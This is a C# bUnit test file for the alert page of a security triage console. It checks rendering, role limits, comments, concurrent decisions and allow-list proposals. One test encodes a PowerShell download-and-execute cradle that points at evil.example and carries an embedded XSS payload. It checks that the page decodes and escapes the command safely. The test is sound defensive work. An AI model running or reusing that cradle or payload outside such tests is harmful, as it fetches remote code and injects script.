using Bunit;
using Microsoft.EntityFrameworkCore;
using TriageConsole.Domain.Alerts;
using TriageConsole.Web.Components.Controls;
using TriageConsole.Web.Features.Alert;
using TriageConsole.Web.Features.Decisions;
using TriageConsole.Web.Live;
using TriageConsole.Web.Tests.Alerts;
using Xunit;

namespace TriageConsole.Web.Tests.Alert;

public sealed class AlertPageTests : TriagePageContext
{
    [Fact]
    public void Render_UnknownAlert_SaysSoPlainly()
    {
        var page = Open(Roles.Analyst, Guid.NewGuid());

        Assert.Contains("does not exist", page.Find(".tc-empty").TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Render_FullAlert_AnswersTheFiveQuestions()
    {
        var alert = await Store.AddAlertAsync(new() { Failures = [new("broken.signal", 1, "InvalidOperationException: oops")] });
        await Store.AddAlertAsync(new() { Host = "other.example" });
        await Store.AddAlertAsync(new() { Fingerprint = "ffffffffffffffffffffffffffffffff" });

        var page = Open(Roles.Analyst, alert.PublicId);

        Assert.Equal("65", page.Find(".tc-ledger tfoot .tc-num").TextContent);
        Assert.Equal(["C:\\Users\\pat\\Downloads\\invoice.js"], page.FindAll(".tc-command mark").Select(mark => mark.TextContent));
        Assert.Contains("Materially weakened", page.Markup, StringComparison.Ordinal);
        Assert.Contains("no Sysmon 7 from this host", page.Markup, StringComparison.Ordinal);
        Assert.Contains("broken.signal failed", page.Markup, StringComparison.Ordinal);
        Assert.Contains("Would change it: A valid signature on the script.", page.Markup, StringComparison.Ordinal);
        Assert.Contains("T1216 System Script Proxy Execution", page.Markup, StringComparison.Ordinal);
        Assert.Contains("2 times on 2 hosts", page.Find("[aria-labelledby=pattern-title]").TextContent, StringComparison.Ordinal);
        Assert.Single(page.FindAll("[aria-labelledby=host-title] tbody tr"));
        Assert.Contains("sysmon.evtx", page.Find("[aria-labelledby=records-title]").TextContent, StringComparison.Ordinal);
        Assert.Contains("raised it", page.Find("[aria-labelledby=history-title]").TextContent, StringComparison.Ordinal);
        var nodes = page.FindComponent<ProcessTree>().Instance.Nodes;
        Assert.Equal(
            [ProcessTreeNodeKind.Ghost, ProcessTreeNodeKind.Process, ProcessTreeNodeKind.Process, ProcessTreeNodeKind.Payload],
            nodes.Select(node => node.Kind));
        Assert.Equal(nodes[1].Id, nodes[3].ParentId);
    }

    [Theory]
    [InlineData(0, "", "the settings that ship, no approved use in force")]
    [InlineData(7, "0123456789ab", "settings version 7, baseline 0123456789ab")]
    public async Task Render_VersionsItWasJudgedUnder_AreNamed(int settings, string baseline, string says)
    {
        var alert = await Store.AddAlertAsync(new());
        await using (var db = Store.CreateDbContext())
        {
            await db.Alerts.ExecuteUpdateAsync(
                set => set.SetProperty(a => a.SettingsVersion, settings).SetProperty(a => a.BaselineRevision, baseline), Xunit.TestContext.Current.CancellationToken);
        }

        var page = Open(Roles.Analyst, alert.PublicId);

        Assert.Contains($"with program and data test-1, {says}", page.Find("[aria-labelledby=ledger-title]").TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Render_HostileAlertWithHugeCommandLine_IsText()
    {
        var alert = await Store.AddAlertAsync(new()
        {
            Chain = AlertStore.Hostile,
            Summary = AlertStore.Hostile,
            User = AlertStore.Hostile,
            Host = AlertStore.Hostile,
            Script = AlertStore.Hostile,
            ChildImage = AlertStore.Hostile,
            CommandLine = AlertStore.Hostile + new string('"', 32_768),
        });

        var page = Open(Roles.Analyst, alert.PublicId);

        Assert.Empty(page.FindAll("img"));
        Assert.Contains(page.FindAll(".tc-command mark"), mark => mark.TextContent == AlertStore.Hostile);
        Assert.True(page.Markup.Length < 200_000, $"{page.Markup.Length} characters of markup");
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Render_ApprovalThatExpired_IsNamedWithItsEndAndOwner(bool expired)
    {
        var use = Coverage.CoverageSeed.Use(Store.Now.AddDays(-1));
        (use.Title, use.Owner) = (AlertStore.Hostile, "Desktop team");
        var alert = await Store.AddAlertAsync(new());
        await using (var db = Store.CreateDbContext())
        {
            db.ApprovedUses.Add(use);
            (await db.Alerts.SingleAsync(a => a.Id == alert.Id, Xunit.TestContext.Current.CancellationToken)).ExpiredUseId = expired ? use.Id : null;
            await db.SaveChangesAsync(Xunit.TestContext.Current.CancellationToken);
        }

        var page = Open(Roles.Analyst, alert.PublicId);

        var notes = page.FindAll("[aria-labelledby=approval-title] [role=note]").Select(note => note.TextContent).ToList();
        if (expired)
        {
            Assert.StartsWith($"{AlertStore.Hostile} covered chains like this until it expired on", Assert.Single(notes), StringComparison.Ordinal);
            Assert.Contains("Its owner is Desktop team.", notes[0], StringComparison.Ordinal);
        }
        else
        {
            Assert.Empty(notes);
        }
    }

    [Fact]
    public async Task Render_Manager_SeesNoWayToDecideOrComment()
    {
        var alert = await Store.AddAlertAsync(new());

        var page = Open(Roles.Manager, alert.PublicId);

        Assert.Empty(page.FindAll("[aria-label=Decide]"));
        Assert.Empty(page.FindAll("textarea"));
    }

    [Fact]
    public async Task Comment_Sent_StandsInTheHistoryAndTheFieldIsEmpty()
    {
        var alert = await Store.AddAlertAsync(new());
        var page = Open(Roles.Analyst, alert.PublicId);

        page.Find("textarea").Input(AlertStore.Hostile);
        page.Find(".comment").Submit();

        page.WaitForAssertion(() => Assert.Equal(AlertStore.Hostile, page.Find(".note").TextContent));
        Assert.Empty(page.FindAll("img"));
        Assert.True(string.IsNullOrEmpty(page.Find("textarea").GetAttribute("value")));
    }

    [Fact]
    public async Task Live_OtherDecided_ShowsItAndKeepsWhatIsTyped()
    {
        var alert = await Store.AddAlertAsync(new());
        var page = Open(Roles.Analyst, alert.PublicId);
        page.Find("textarea").Input("half a thought");

        await new CloseCommands(Store, Store.Time, Store.Notices)
            .CloseAsync(AlertStore.OtherAnalyst, alert.PublicId, 0, new(AlertOutcome.FalsePositive, "noise"), CancellationToken.None);
        Notices.Publish(Topic.Alerts);

        page.WaitForAssertion(() => Assert.Contains("closed it as false positive", page.Markup, StringComparison.Ordinal));
        Assert.Contains("192.0.2.2", page.Find("[aria-labelledby=history-title]").TextContent, StringComparison.Ordinal);
        Assert.Equal("half a thought", page.Find("textarea").GetAttribute("value"));
    }

    [Fact]
    public async Task Close_OtherDecidedWhileTheFormWasOpen_AsksFirstAndOverwritesOnlyWhenSentAgain()
    {
        var alert = await Store.AddAlertAsync(new());
        var page = Open(Roles.Analyst, alert.PublicId);
        await PressAsync("c");
        page.FindAll("input[name=outcome]")[1].Change("BenignPositive");
        page.Find(".decision textarea").Input("Known roll-out");

        await new CloseCommands(Store, Store.Time, Store.Notices)
            .CloseAsync(AlertStore.OtherAnalyst, alert.PublicId, 0, new(AlertOutcome.TruePositive, "an attack"), CancellationToken.None);
        Notices.Publish(Topic.Alerts);
        page.WaitForAssertion(() => Assert.Contains("closed it as true positive", page.Markup, StringComparison.Ordinal));
        page.Find(".decision form").Submit();

        page.WaitForAssertion(() => Assert.Contains("was faster", page.Find(".overtaken").TextContent, StringComparison.Ordinal));
        Assert.Contains("an attack", page.Find(".overtaken").TextContent, StringComparison.Ordinal);
        Assert.DoesNotContain("@", page.Find(".overtaken").TextContent, StringComparison.Ordinal);
        Assert.Equal(AlertOutcome.TruePositive, (await Store.ReadAsync(alert.PublicId)).Outcome);
        Assert.Equal("Known roll-out", page.Find(".decision textarea").GetAttribute("value"));

        page.Find(".decision form").Submit();
        page.WaitForAssertion(() => Assert.Empty(page.FindAll(".decision")));
        Assert.Equal(AlertOutcome.BenignPositive, (await Store.ReadAsync(alert.PublicId)).Outcome);
    }

    [Fact]
    public async Task Render_EncodedCommand_ShowsWhatItSaysWithTheWordsThatCount()
    {
        const string script = "IEX (New-Object Net.WebClient).Down`loadString('http://evil.example/<img src=x onerror=alert(1)>')\nexit";
        var encoded = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes(script));
        var alert = await Store.AddAlertAsync(new() { CommandLine = "wscript.exe -enc " + encoded });
        await using (var db = Store.CreateDbContext())
        {
            var row = await db.Alerts.SingleAsync(a => a.Id == alert.Id, Xunit.TestContext.Current.CancellationToken);
            row.DetailJson = row.DetailJson.Replace("lies in a profile", "'downloadstring'", StringComparison.Ordinal);
            await db.SaveChangesAsync(Xunit.TestContext.Current.CancellationToken);
        }

        var page = Open(Roles.Manager, alert.PublicId);

        var lines = page.FindAll(".card pre").Where(pre => pre.GetAttribute("aria-label")!.StartsWith("Decoded text of", StringComparison.Ordinal)).ToList();
        Assert.Equal(script, Assert.Single(lines).TextContent);
        Assert.Equal(["Down`loadString"], lines[0].QuerySelectorAll("mark").Select(mark => mark.TextContent));
        Assert.Contains(page.FindAll(".tc-command mark"), mark => mark.TextContent == encoded);
        Assert.Empty(page.FindAll("img"));
    }

    [Fact]
    public async Task Allow_PanelOpened_IsFilledWithTheNarrowestUseThatCoversThis()
    {
        var alert = await Store.AddAlertAsync(new());
        await Store.AddAlertAsync(new() { Host = "elsewhere.example" });
        var page = Open(Roles.Analyst, alert.PublicId);

        await PressAsync("a");

        page.WaitForAssertion(() => Assert.Contains("1 stored alert", page.Find(".preview").TextContent, StringComparison.Ordinal), TimeSpan.FromSeconds(10));
        Assert.DoesNotContain("does not cover", page.Find(".preview").TextContent, StringComparison.Ordinal);
        page.FindAll(".condition input").First(input => input.GetAttribute("value")!.Contains("ws-0042", StringComparison.OrdinalIgnoreCase)).Change("*.example");
        page.WaitForAssertion(() => Assert.Contains("2 stored alerts", page.Find(".preview").TextContent, StringComparison.Ordinal), TimeSpan.FromSeconds(10));
    }

    [Fact]
    public async Task Allow_Submitted_ProposesAndTheAlertWaits()
    {
        var alert = await Store.AddAlertAsync(new());
        var page = Open(Roles.Analyst, alert.PublicId);
        await PressAsync("a");

        // The count renders the form again when it is there; what is typed before it would find its field gone.
        page.WaitForAssertion(() => Assert.Contains("1 stored alert", page.Find(".preview").TextContent, StringComparison.Ordinal), TimeSpan.FromSeconds(10));
        // Found and used in one, or the form may be drawn anew in between.
        await page.InvokeAsync(() => page.Find("input[placeholder='Who answers for it']").Input("Desktop team"));
        await page.InvokeAsync(() => page.Find("input[placeholder='CHG-1234']").Input("CHG-7"));
        await page.InvokeAsync(() => page.FindAll(".decision label").Single(label => label.TextContent.StartsWith("Why the warnings", StringComparison.Ordinal)).QuerySelector("input")!.Input("It moves next month."));
        await page.InvokeAsync(() => page.Find(".decision textarea").Input("Monthly roll-out"));
        await page.InvokeAsync(() => page.Find(".decision form").Submit());

        page.WaitForAssertion(() => Assert.Contains("Allowed, pending review", page.Find("header").TextContent, StringComparison.Ordinal), TimeSpan.FromSeconds(10));
        Assert.Contains("waits for an admin", page.Find("[aria-labelledby=approval-title]").TextContent, StringComparison.Ordinal);
    }

    private IRenderedComponent<AlertPage> Open(string role, Guid id)
    {
        SignIn(role);
        return Render<AlertPage>(given => given.Add(page => page.Id, id));
    }
}
